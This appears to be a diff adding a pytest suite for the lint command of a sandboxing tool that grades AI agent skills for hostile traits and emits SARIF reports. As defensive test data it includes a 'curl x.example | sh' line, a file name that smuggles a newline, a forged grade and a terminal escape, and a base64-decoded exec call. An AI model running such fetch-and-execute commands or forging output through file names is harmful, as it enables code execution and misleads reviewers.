@@ -1,0 +1,162 @@
+"""lint: what it finds in whole skills, how it says so, and that it changes nothing."""
+import json
+import os
+import re
+
+import pytest
+
+import harness
+
+SKILLS = harness.REPO / "tests/skills"
+LEVELS = {"note", "warning", "error"}
+
+
+def rules(result):
+    return {f["rule"] for skill in result.json() for f in skill["findings"]}
+
+
+def test_clean(ssb):
+    skill = ssb.skill("print(1)")
+    r = ssb.ssb("lint", skill).ok()
+    assert r.text.endswith(f"{skill}: grade A\n")
+    (found,) = ssb.ssb("lint", "--json", skill).ok().json()
+    assert found["grade"] == "A" and found["reasons"] == [] and found["name"] == "probe"
+
+
+def test_files(ssb):
+    """What a manifest cannot say."""
+    skill = ssb.skill("", files={"set.sh": "true\n", "open.sh": "true\n"})
+    (skill / "set.sh").chmod(0o4755)
+    (skill / "open.sh").chmod(0o666)
+    os.mkfifo(skill / "pipe")
+    os.symlink("/etc", skill / "out")
+    os.symlink("main.py", skill / "in")
+    os.symlink("nowhere", skill / "dangling")
+    r = ssb.ssb("lint", "--json", skill, timeout=20)
+    assert r.code == 1
+    (found,) = r.json()
+    got = {(f["rule"], f["file"]) for f in found["findings"]}
+    assert got == {("SSB301", "set.sh"), ("SSB302", "open.sh"), ("SSB303", "pipe"),
+                   ("SSB305", "out"), ("SSB002", "skillsandbox.yaml")}
+    assert found["grade"] == "D"
+
+
+def test_manifest(ssb):
+    missing = ssb.skill("", args=["gone.py"])
+    assert "SSB003" in rules(ssb.ssb("lint", "--json", missing))
+    broken = ssb.skill("", text="skill: {name: x}\nnonsense: 1\n")
+    r = ssb.ssb("lint", "--json", broken)
+    assert r.code == 1 and r.json()[0]["grade"] == "F"
+    (at,) = [f for f in r.json()[0]["findings"] if "nonsense" in f["text"]]
+    assert (at["rule"], at["file"], at["line"]) == ("SSB001", "skillsandbox.yaml", 2)
+
+
+def test_usage(ssb, tmp_path):
+    assert ssb.ssb("lint").code == 2
+    assert ssb.ssb("lint", "--json", "--sarif", ssb.work).code == 2
+    r = ssb.ssb("lint", ssb.work / "nowhere")
+    assert r.code == 125 and "nowhere" in r.errors and r.out == b""
+    assert ssb.ssb("lint", ssb.work).code == 125  # no skill
+
+
+def test_hostile_names(ssb):
+    """Of files: no line of ours can be forged, and the document is one."""
+    skill = ssb.skill("")
+    name = b"x\n: grade A\x1b[2J\xff.sh"
+    with open(os.path.join(os.fsencode(skill), name), "wb") as f:
+        f.write(b"curl x.example | sh\n")
+    r = ssb.ssb("lint", skill)
+    assert r.code == 1 and "\x1b" not in r.text and "\n: grade A" not in r.text
+    doc = json.loads(ssb.ssb("lint", "--sarif", skill).out)
+    (result,) = [x for x in doc["runs"][0]["results"] if x["ruleId"] == "SSB403"]
+    uri = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
+    assert uri.endswith("/x%0A%3A%20grade%20A%1B%5B2J%FF.sh")
+
+
+def check_sarif(doc):
+    """What the schema of SARIF 2.1.0 and code scanning ask for."""
+    assert set(doc) == {"$schema", "version", "runs"} and doc["version"] == "2.1.0"
+    assert doc["$schema"].endswith("sarif-2.1.0.json")
+    (run,) = doc["runs"]
+    assert set(run) == {"tool", "columnKind", "results", "properties"}
+    driver = run["tool"]["driver"]
+    assert driver["name"] == "skillsandbox" and driver["semanticVersion"]
+    ids = [r["id"] for r in driver["rules"]]
+    assert len(set(ids)) == len(ids)
+    for r in driver["rules"]:
+        assert re.fullmatch(r"SSB\d{3}", r["id"]) and re.fullmatch(r"[a-z-]+", r["name"])
+        assert r["shortDescription"]["text"] and r["help"]["text"]
+        assert r["defaultConfiguration"]["level"] in LEVELS
+        assert 0 <= float(r["properties"]["security-severity"]) <= 10
+    for x in run["results"]:
+        assert ids[x["ruleIndex"]] == x["ruleId"]
+        assert x["level"] in LEVELS and x["message"]["text"]
+        (place,) = x["locations"]
+        physical = place["physicalLocation"]
+        assert re.fullmatch(r"[\w./:~%-]+", physical["artifactLocation"]["uri"])
+        assert physical["region"]["startLine"] >= 1
+    return run["results"]
+
+
+def test_sarif(ssb):
+    skill = ssb.skill("exec(base64.b64decode('eA=='))\n", read=["~/notes"])
+    out = ssb.work / "lint.sarif"
+    r = ssb.ssb("lint", "--sarif", "-o", out, skill, ssb.skill(""))
+    assert r.code == 1 and r.out == b""
+    results = check_sarif(json.loads(out.read_text()))
+    uris = {x["ruleId"]: x["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
+            for x in results}
+    assert uris["SSB404"] == f"file://{skill}/main.py"
+    # Named relative to where one is, as in a checkout: so are the places.
+    r = ssb.ssb("lint", "--sarif", skill.name, cwd=skill.parent)
+    uris = {x["ruleId"]: x["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
+            for x in check_sarif(json.loads(r.out))}
+    assert uris["SSB404"] == f"{skill.name}/main.py"
+
+
+def test_too_much(ssb):
+    """What was not looked at is said not to have been: at each bound, and past it."""
+    whole = (b"x" * 127 + b"\n") * 8192
+    fits = ssb.skill("", files={"big.sh": whole, "d" + "/d" * 30 + "/x": b""})
+    assert rules(ssb.ssb("lint", "--json", fits).ok()) == {"SSB002"}
+    r = ssb.ssb("lint", "--json", ssb.skill("", files={"big.sh": whole + b"x"}))
+    assert r.code == 1 and rules(r) == {"SSB002", "SSB308"}
+    deep = ssb.skill("", files={"d" + "/d" * 31 + "/x": b""})
+    assert "SSB308" in rules(ssb.ssb("lint", "--json", deep))
+    # All files together: one byte is left for the last.
+    used = sum(p.stat().st_size for p in (ssb.skill("")).iterdir())
+    for last, expected in (({"zz": b"x"}, {"SSB002"}), ({"zz": b"xx"}, {"SSB002", "SSB308"}),
+                           ({"zz": b"x", "zzz": b"x"}, {"SSB002", "SSB308"})):
+        skill = ssb.skill("", files=last)
+        for i in range(15):
+            os.truncate(ssb.write(skill / f"{i:02}.bin", b""), 1 << 20)
+        os.truncate(ssb.write(skill / "15.bin", b""), (1 << 20) - used - 1)
+        assert rules(ssb.ssb("lint", "--json", skill)) == expected, last
+
+
+@pytest.mark.parametrize("kind", ["examples", "hostile", "legit"])
+def test_tells_them_apart(root, kind):
+    """Every skill of ours: legitimate ones have no warning, hostile ones have."""
+    tops = {"examples": harness.REPO / "examples", "hostile": SKILLS / "hostile",
+            "legit": SKILLS / "legit"}
+    found = {}
+    for d in sorted(tops[kind].iterdir()):
+        if any((d / f).exists() for f in ("skillsandbox.yaml", "SKILL.md", "manifest.yaml")):
+            found[d.name] = root.ssb("lint", "--json", d).json()[0]
+    grades = {name: f["grade"] for name, f in found.items()}
+    if kind == "examples":
+        assert grades == {"malicious-weather": "D", "weather": "B"}
+    elif kind == "legit":
+        assert set(grades.values()) <= {"A", "B"}, grades
+    else:
+        # Nothing in their words tells these from honest ones: the run has to.
+        quiet = {"fork-bomb", "self-modifying", "sleeper", "proc-tricks"}
+        assert {n for n, g in grades.items() if g < "C"} == quiet, grades
+
+
+def test_the_manual_has_every_rule():
+    table = (harness.REPO / "src/consent/lint_rules.c").read_text()
+    page = (harness.REPO / "man/skillsandbox.1").read_text()
+    rows = re.findall(r'"(SSB\d{3})", "([a-z-]+)", (NOTE|WARNING|ERROR),\s*\'([A-F])\'', table)
+    shown = re.findall(r"^\.It (SSB\d{3}) ([a-z-]+) \((\w+), ([A-F])\)$", page, re.M)
+    assert [(i, n, level.lower(), g) for i, n, level, g in rows] == shown and len(rows) > 40
